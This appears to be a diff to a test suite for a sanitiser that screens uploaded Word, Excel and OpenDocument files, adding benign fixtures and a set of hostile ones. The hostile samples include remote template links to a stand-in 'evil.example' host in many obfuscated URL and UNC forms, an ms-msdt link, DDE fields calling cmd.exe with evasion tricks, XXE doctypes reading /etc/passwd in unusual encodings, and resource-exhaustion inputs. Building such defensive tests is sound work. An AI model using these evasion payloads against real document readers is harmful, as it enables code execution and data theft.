@@ -36,6 +36,29 @@ LINKS = relations(
 )
 
 
+def field(*runs, end=""):
+    """A Word file with a field whose instruction is written in these runs."""
+    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
+    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    words = f"<w>{mark % 'begin'}{texts}{end or mark % 'separate' + mark % 'end'}</w>"
+    return office("docx", main=words.encode())
+
+
+def related(purpose, target, mode="External", part="word/_rels/document.xml.rels"):
+    return office("docx", {part: relations((purpose, target, mode))})
+
+
+def typed(types, *members):
+    """A Word file that declares these types of content."""
+    return archive(
+        ("[Content_Types].xml", f"<T>{types}</T>"), ("word/document.xml", b"<w/>"), *members
+    )
+
+
+OUTER = '<?xml version="1.0" encoding="%s"?><!DOCTYPE w SYSTEM "file:///etc/passwd"><w/>'
+MACRO_TYPE = 'ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"'
+
+
 def archive(*members, comment=b""):
     packed = io.BytesIO()
     with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
@@ -79,6 +102,25 @@ GOOD = {
     "law.pdf": pdf(),
     "printed.pdf": one_page("A law"),
     "law.docx": office("docx", {"word/_rels/document.xml.rels": LINKS}),
+    "share.docx": related("hyperlink", "file://server/share"),
+    "drive.docx": related("hyperlink", "\\\\server\\share\\Law.docx"),
+    "document.docx": related("hyperlink", "Law.docx"),
+    "letterhead.docx": related("attachedTemplate", "file:///C:\\Templates\\Ministry%20a.dotx"),
+    "letter.docx": related("attachedTemplate", "Z:\\Ministry.dotx"),
+    "normal.docx": related("attachedTemplate", "Normal.dotm"),
+    "unix.docx": related("attachedTemplate", "file:///home/jane/Letter.dotx"),
+    "link-dde.docx": field('HYPERLINK "https://www.example.org/DDE"'),
+    "escaped.docx": field("HYPERLINK ", "&#34;https://e.org/&amp;DDE&#34;"),
+    "says-dde.docx": office(
+        "docx", main=b"<w><w:t>DDEAUTO</w:t><w:instrText>PAGE</w:instrText></w>"
+    ),
+    "contents.docx": field("TOC \\o", end='<w:r><w:fldChar w:fldCharType="begin"/></w:r>'),
+    "declared.docx": typed(f'<Default Extension="bin" {MACRO_TYPE}/>'),
+    "named.docx": office("docx", {"word/media/vbaproject-plan.png": png()}),
+    "western.docx": office(
+        "docx", main="<?xml version='1.0' encoding='ISO-8859-1'?><w>é</w>".encode("latin-1")
+    ),
+    "marked.docx": office("docx", main=b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?><w/>"),
     "law.xlsx": office("xlsx", {"xl/styles.xml": b"<s/>", "xl/media/image1.png": png()}),
     "law.odt": office("odt", {"META-INF/manifest.xml": b"<m/>"}),
     "linked.odt": office(
@@ -138,6 +180,45 @@ HOSTILE = {
     "inside-mode.docx": office(
         "docx", {"word/_rels/document.xml.rels": relations(("image", "http://e/p", "Internal"))}
     ),
+    **{
+        f"template-{number}.docx": related("attachedTemplate", target)
+        for number, target in enumerate(
+            (
+                "https://evil.example/a.dotm",
+                "file://evil/a.dotm",
+                "file:///\\\\evil\\a.dotm",
+                "file:////evil/a.dotm",
+                "\\\\evil\\a.dotm",
+                "file:%2f%2fevil/a.dotm",
+                "//evil/a.dotm",
+                "\\\\?\\UNC\\evil\\a.dotm",
+                "ftp://evil.example/a.dotm",
+                " h\tttp://evil.example/a.dotm",
+            )
+        )
+    },
+    "program.docx": related("hyperlink", "ms-msdt:/id%20PCWDiagnostic"),
+    "script-link.docx": related("hyperlink", "Java&#10;Script:alert(1)"),
+    "utf-7.docx": office("docx", main=(OUTER % "UTF-7").encode("utf-7")),
+    "ebcdic.docx": office("docx", main=(OUTER % "cp037").encode("cp037")),
+    "ebcdic-part.docx": office("docx", {"word/settings.xml": (OUTER % "cp500").encode("cp500")}),
+    "utf-16.docx": office("docx", main=(OUTER % "UTF-16").encode("utf-16")),
+    "utf-16-le.docx": office("docx", main=(OUTER % "UTF-16").encode("utf-16-le")),
+    "other-name.docx": office("docx", {"word/evil.bin": (OUTER % "UTF-8").encode()}),
+    "macro-default.docx": typed(f'<Default Extension="BIN" {MACRO_TYPE}/>', ("word/a.bin", b"x")),
+    "macro-any.docx": typed(f'<Override PartName="/word/a.bin" {MACRO_TYPE}/>'),
+    "dde-split.docx": field("DD", "EAUTO c:\\cmd.exe"),
+    "dde-quoted.docx": field(' "DDE" cmd'),
+    "dde-unended.docx": field("DDE cmd", end="<w:t/>"),
+    "dde-nested.docx": field(
+        "IF 1",
+        end='<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>'
+        '<w:fldChar w:fldCharType="end"/>',
+    ),
+    "dde-comment.docx": field("DD<!-- a -->EAUTO cmd"),
+    "dde-section.docx": field("<![CDATA[DDE cmd]]>"),
+    "dde-bracket.docx": office("docx", main=b"<w><w:instrText w:a='>'>DDE cmd</w:instrText></w>"),
+    "dde-simple.docx": office("docx", main=b"<w><w:fldSimple w:a='>' w:instr='DDE cmd'/></w>"),
     "dde-escaped.docx": office("docx", main=b"<w><w:instrText>&#68;DE cmd</w:instrText></w>"),
     "dde.odt": office("odt", main=b'<o><text:dde-connection-decl office:dde-topic="x"/></o>'),
     "event.odt": office("odt", main=b'<o><script:event-listener xlink:href="vnd.x"/></o>'),
@@ -151,9 +232,6 @@ HOSTILE = {
     ),
     "picture.docx": office(
         "docx", {"word/_rels/document.xml.rels": relations(("image", "http://e/p", "External"))}
-    ),
-    "share.docx": office(
-        "docx", {"word/_rels/document.xml.rels": relations(("hyperlink", "file://e/s", "External"))}
     ),
     "unc.docx": office(
         "docx", {"word/_rels/document.xml.rels": relations(("oleObject", "\\\\e\\s", "external"))}
@@ -237,6 +315,11 @@ def test_what_unpacks_to_too_much_is_refused(monkeypatch, module, name, content)
 
 SLOW = {
     "fields.docx": office("docx", {"word/a.txt": os.urandom(4000)}, b"instrText fldSimple" * 8000),
+    "marks.docx": office("docx", {"word/a.txt": os.urandom(400_000)}, b"<w:fldChar/>" * 900_000),
+    "texts.docx": office("docx", {"word/a.txt": os.urandom(90_000)}, b"<instrText>D" * 500_000),
+    "no-elements.docx": office(
+        "docx", {"word/a.txt": os.urandom(400_000)}, b"<" + b"a" * 30_000_000
+    ),
     "links.odt": office("odt", {"a.txt": os.urandom(4000)}, b"<draw:image a " * 10_000),
     "filled.jpeg": PHOTOGRAPH[:-2] + b"\xff" * 300_000 + b"\x00\xff\xd9",
     "scans.jpeg": PHOTOGRAPH[:-2] + b"\xff\xda\x00\x02" * 500_000 + b"\xff\xd9",
